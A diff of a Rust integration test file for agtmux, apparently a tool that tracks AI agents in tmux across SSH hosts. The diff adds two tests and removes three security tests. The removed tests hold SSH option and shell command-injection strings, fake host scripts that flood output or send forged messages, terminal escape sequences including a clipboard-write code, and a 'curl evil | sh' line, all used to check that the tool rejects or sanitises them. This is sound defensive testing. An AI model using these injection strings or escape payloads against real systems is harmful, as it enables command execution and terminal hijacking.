@@ -3,7 +3,7 @@
 use std::fs;
 use std::thread;
 
-use agtmux_testkit::{Host, HostOptions, Hosts, process, wait_for, wait_until};
+use agtmux_testkit::{HostOptions, Hosts, process, wait_for, wait_until};
 use rustix::process::Signal;
 use serde_json::{Value, json};
 
@@ -167,6 +167,64 @@ fn the_same_session_name_is_merged_only_when_asked_for() {
     assert!(table.contains("host 1 · vm1 1"), "{table}");
 }
 
+/// What its host has told counts again as soon as its kind does: nothing new has to happen there.
+#[test]
+fn an_adapter_that_is_switched_off_and_on_again_knows_agents_elsewhere_at_once() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.host("vm1");
+    let agent = Agent::start(host.world(), "work");
+    agent.draws("dialog");
+    let asks = hub.becomes("vm1", &agent, "waiting_approval");
+    assert_eq!(hub.agtmux(&["adapters", "disable", "claude"]).code, Some(0));
+    hub.becomes("vm1", &agent, "unknown");
+    assert_eq!(hub.agtmux(&["adapters", "enable", "claude"]).code, Some(0));
+    let again = hub.becomes("vm1", &agent, "waiting_approval");
+    assert_eq!(again["dialog"]["fingerprint"], asks["dialog"]["fingerprint"], "{again}");
+}
+
+/// While they run, and when they have ended: also to a hub that comes later.
+#[test]
+fn tasks_of_another_host_are_shown_as_tasks() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.host("vm1");
+    let gate = host.world().home().join("gate");
+    let command = format!("until [ -e {} ]; do sleep 0.05; done; exit 3", gate.display());
+    let project = host.world().home().display().to_string();
+    let task = |args: &[&str]| {
+        let session = on(&host, &["task", "session-name", &project, "1"]).text().trim().to_owned();
+        let done = on(&host, &[&["task", args[0], "--session", &session], &args[1..]].concat());
+        assert_eq!(done.code, Some(0), "{args:?}: {}", done.stderr);
+        done
+    };
+    let started = task(&["run", "--project", &project, "--json", "build", "--", &command]);
+    let pane = started.json()["pane_id"].clone();
+    let becomes = |state: &str| {
+        wait_for(&format!("the task to be {state}"), SOON, || {
+            let items = hub.items("vm1");
+            let task = items.iter().find(|item| item["identity"]["pane_id"] == pane).cloned().unwrap_or_default();
+            let is_it = task["agent_type"] == "task" && task["name"] == "build" && task["state"] == state;
+            if is_it { Ok(task) } else { Err(json!(items).to_string()) }
+        })
+    };
+    let running = becomes("running");
+    fs::write(&gate, "").expect("written");
+    let ended = becomes("error");
+    assert_eq!(ended["runtime_id"], running["runtime_id"], "it is the same one");
+    assert_eq!(hub.agtmux(&["target", "remove", "vm1", "--yes"]).code, Some(0));
+    assert_eq!(hub.items("vm1"), Vec::<Value>::new());
+    hub.watch("vm1");
+    assert_eq!(becomes("error")["dead"]["exit_code"], 3);
+    // What its host takes away is gone here too.
+    task(&["prune-dead"]);
+    wait_until("the task to be gone", SOON, || hub.items("vm1").iter().all(|item| item["agent_type"] != "task"));
+}
+
 #[test]
 fn two_hubs_watch_one_host_through_its_one_daemon() {
     if skipped() {
@@ -225,161 +283,6 @@ fn targets_are_kept_over_restarts_and_removed_for_good() {
     agent.server.run(&["respawn-pane", "-k", "-t", &agent.pane, &host.world().stand_in("codex")]);
     hub.watch("vm1");
     wait_until("the other agent", SOON, || hub.items("vm1").iter().any(|item| item["agent_type"] == "codex"));
-}
-
-#[test]
-fn a_name_that_could_be_anything_else_is_refused() {
-    if skipped() {
-        return;
-    }
-    let hub = Hub::new();
-    let marks = ["made-by-name", "made-by-host"];
-    let touch = |mark: &str| format!("touch {}", hub.world.home().join(mark).display());
-    let (by_name, by_host) = (touch(marks[0]), touch(marks[1]));
-    for bad in [
-        &format!("-oProxyCommand={by_name}"),
-        &format!("a$({by_name})"),
-        &format!("`{by_name}`"),
-        "a;b",
-        "a b",
-        "a\nb",
-        "a'b",
-        "ä",
-        "",
-        "host",
-    ] {
-        let done = hub.agtmux(&["target", "add", "--json", "--", bad]);
-        assert_ne!(done.code, Some(0), "{bad:?}: {}", done.text());
-    }
-    for bad in [
-        &format!("-oProxyCommand={by_host}"),
-        &format!("a$({by_host})"),
-        &format!("`{by_host}`"),
-        "a;b",
-        "a\nb",
-        "a b",
-        "ä",
-    ] {
-        let done = hub.agtmux(&["target", "add", "vm1", "--ssh-target", bad]);
-        assert_eq!(done.code, Some(5), "{bad:?}: {}", done.stderr);
-        assert!(done.stderr.contains("ssh target"), "{}", done.stderr);
-    }
-    assert!(marks.iter().all(|mark| !hub.world.home().join(mark).exists()), "something was run");
-    assert_eq!(items(&hub.agtmux(&["target", "list", "--json"]).json()).len(), 1);
-}
-
-/// What answers there may be anything.
-#[test]
-fn a_hostile_host_harms_nobody_but_itself() {
-    if skipped() {
-        return;
-    }
-    let hub = Hub::new();
-    let here = Agent::start(&hub.world, "work");
-    hub.becomes("host", &here, "idle");
-    let mine = hub.item("host", &here).expect("it is listed");
-    let answers = [
-        ("yes", "yes hello | head -c 20000000"),
-        ("endless", "printf '{\"type\":\"hello\"'; head -c 40000000 /dev/zero | tr '\\0' x; exec cat >/dev/null"),
-        (
-            "future",
-            "printf '{\"type\":\"hello\",\"collect\":99,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n'; exec cat >/dev/null",
-        ),
-        (
-            "asks",
-            "printf '{\"type\":\"hello\",\"collect\":1,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"request\",\"id\":1,\"ask\":{\"kill\":{\"ref\":\"claude\"}}}\\n'; exec cat >/dev/null",
-        ),
-        (
-            "lies",
-            "printf '{\"type\":\"hello\",\"collect\":1,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"batch\",\"full\":true,\"evidence\":[{\"kind\":\"server_gone\",\"server\":\"default\"},{\"kind\":\"target_outage\",\"outage\":[\"tmux_too_old\",\"\\\\u001b[31mboo\"]}]}\\n'; exec cat >/dev/null",
-        ),
-    ];
-    let hostile = |(alias, script): &(&str, &str)| {
-        let host = hub.hosts.bare(alias);
-        host.world().install("agtmux", &format!("#!/bin/sh\n{script}\n"));
-        host.world().install("tmux", "#!/bin/sh\nexit 1\n");
-        host
-    };
-    let _hosts: Vec<Host> = answers.iter().map(hostile).collect();
-    thread::scope(|scope| {
-        for (alias, _) in answers {
-            let hub = &hub;
-            scope.spawn(move || {
-                let done = hub.agtmux(&["target", "add", alias, "--json"]);
-                assert!(done.code == Some(0) || done.code == Some(1), "{alias}: {}", done.stderr);
-            });
-        }
-    });
-    for args in [&["list", "panes", "--all"][..], &["target", "list"], &["target", "list", "--json"]] {
-        let said = hub.agtmux(args);
-        let text = format!("{}{}", said.text(), said.stderr);
-        assert!(!text.contains('\u{1b}'), "{args:?}: {text:?}");
-    }
-    let after = hub.item("host", &here).expect("it is listed still");
-    assert_eq!((&after["state"], &after["runtime_id"]), (&mine["state"], &mine["runtime_id"]));
-    assert_eq!(hub.send(&runtime(&mine), "still mine").json()["verified"], "confirmed");
-    let future = hub.target("future");
-    let told = format!("{} {}", future["message"], future["hint"]);
-    assert!(told.contains("99") && told.contains("install agtmux"), "{future}");
-    let daemon = pid(&hub.world);
-    let memory = process::resident_memory(daemon).expect("it lives");
-    assert!(memory < 300 << 20, "{memory} bytes");
-}
-
-/// One that plays agtmux well and answers with what a terminal would obey.
-const LIAR: &str = r##"#!/bin/sh
-copies='\u001b]52;c;aGFoYQ==\u0007'
-say() { printf '%s\n' "$1"; }
-say '{"type":"hello","collect":1,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
-say '{"type":"batch","full":true,"evidence":[{"kind":"listed","server":"default","generation":{"pid":7,"start_time":7},
-"rows":[{"session":"$0","session_name":"s'"$copies"'","window":"@0","window_index":0,"window_name":"w'"$copies"'","pane":"%0",
-"pane_index":0,"pid":8,"tty":"'"$copies"'","dead":null,"title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
-while say '{"type":"beat","now":"2026-01-01T00:00:00Z"}'; do sleep 1; done &
-beats=$!
-while read -r line; do
-    id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
-    [ -n "$id" ] || continue
-    case $line in
-    *view_output*)
-        say '{"type":"reply","id":'"$id"',"answer":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
-"runtime_id":null,"target":"host","server":"default","pane_id":"%0","latency_ms":1,"lines":["seen'"$copies"'"],
-"title":"'"$copies"'","full_screen":false,"tty":"/dev/tty"}}}' | tr -d '\n'; echo ;;
-    *) say '{"type":"reply","id":'"$id"',"answer":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
-    esac
-done
-kill "$beats"
-"##;
-
-#[test]
-fn what_a_host_shows_is_not_obeyed_by_the_terminal_here() {
-    if skipped() {
-        return;
-    }
-    let hub = Hub::new();
-    let host = hub.hosts.bare("liar");
-    host.world().install("agtmux", LIAR);
-    assert_eq!(hub.agtmux(&["target", "add", "liar"]).code, Some(0));
-    wait_until("its pane", SOON, || hub.items("liar").len() == 1);
-    // A bare pane is one of this machine; the refusal tells how to name the other.
-    let refused = hub.agtmux(&["view-output", "%0"]).stderr;
-    let named = refused.split_whitespace().find(|word| word.starts_with("pane:liar")).expect("it is named");
-    let commands = [
-        &["list", "panes", "--all"][..],
-        &["list", "sessions"],
-        &["view-output", "%0"],
-        &["view-output", named],
-        &["view-output", named, "--ansi"],
-        &["send", named, "--text", "x", "--profile", "shell"],
-        &["audit"],
-    ];
-    for args in commands {
-        let said = hub.agtmux(args);
-        let text = format!("{}{}", String::from_utf8_lossy(&said.stdout), said.stderr);
-        assert!(!text.replace("\u{1b}[0m", "").contains('\u{1b}') && !text.contains('\u{7}'), "{args:?}: {text:?}");
-        assert!(!text.contains("curl"), "{args:?}: {text:?}");
-    }
-    let shown = hub.agtmux(&["view-output", named]).text();
-    assert!(shown.contains("seen\\x1b]52"), "{shown:?}");
 }
 
 /// A shell may write a title without ending the line, and much else.
